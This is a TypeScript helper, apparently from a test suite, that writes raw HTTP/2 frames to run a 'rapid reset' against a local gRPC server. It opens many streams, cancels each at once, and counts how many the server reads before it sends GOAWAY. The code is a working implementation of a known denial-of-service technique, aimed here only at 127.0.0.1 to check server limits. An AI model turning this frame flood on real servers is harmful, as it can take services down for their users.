import { once } from "node:events";
import { connect, type Socket } from "node:net";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const FRAME_HEAD_BYTES = 9;
/** HTTP/2's types and flags of frames (RFC 9113, section 6). */
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const GOAWAY = 7;
const ACK = 1;
const END_HEADERS = 4;
const CANCEL = 8;

/**
 * Opens `count` calls on one connection and takes each back at once, as a "rapid reset" does. The frames are written
 * here: an HTTP/2 library would not send a call that is taken back in the same turn. Resolves to how many of the
 * calls the server says it has read: all when it answers the ping behind them; up to the last one that its GOAWAY
 * names when it refuses to go on, as Node does after about a thousand.
 * @param port of a gRPC server on this machine.
 */
export async function sendRapidResets(port: number, path: string, count: number): Promise<number> {
  const socket = connect(port, "127.0.0.1");
  const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
  socket.on("error", () => {});
  await Promise.race([once(socket, "connect").catch(() => {}), closed]);
  const read = readEnd(socket, count);
  const frames = [PREFACE, frame(SETTINGS, 0, 0)];
  const block = headerBlock(path, port);
  for (let i = 0; i < count; i++) {
    const stream = 2 * i + 1;
    frames.push(frame(HEADERS, END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, uint32(CANCEL)));
  }
  frames.push(frame(PING, 0, 0, Buffer.alloc(8)));
  socket.write(Buffer.concat(frames));
  const seen = await Promise.race([read, closed.then(() => 0)]);
  socket.destroy();
  return seen;
}

/** Reads the server's frames until it has told how far it has come. */
function readEnd(socket: Socket, count: number): Promise<number> {
  let unread = Buffer.alloc(0);
  return new Promise((resolve) => {
    socket.on("data", (part: Buffer) => {
      unread = Buffer.concat([unread, part]);
      for (;;) {
        if (unread.length < FRAME_HEAD_BYTES) return;
        const end = FRAME_HEAD_BYTES + unread.readUIntBE(0, 3);
        if (unread.length < end) return;
        const [type, flags] = [unread[3], unread[4] ?? 0];
        if (type === SETTINGS && (flags & ACK) === 0) socket.write(frame(SETTINGS, ACK, 0));
        if (type === PING && (flags & ACK) !== 0) resolve(count);
        if (type === GOAWAY) resolve((unread.readUInt32BE(FRAME_HEAD_BYTES) + 1) / 2);
        unread = unread.subarray(end);
      }
    });
  });
}

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(FRAME_HEAD_BYTES);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

/** A call's headers in HPACK, none of them compressed or kept (RFC 7541): POST and http are in its table. */
function headerBlock(path: string, port: number): Buffer {
  const named = (index: number, value: string) => [Buffer.from([index]), text(value)];
  const unnamed = (name: string, value: string) => [Buffer.from([0]), text(name), text(value)];
  return Buffer.concat([
    Buffer.from([0x83, 0x86]),
    ...named(4, path),
    ...named(1, `127.0.0.1:${port}`),
    ...unnamed("content-type", "application/grpc"),
    ...unnamed("te", "trailers"),
  ]);
}

/** At most 126 bytes. */
function text(value: string): Buffer {
  return Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
}
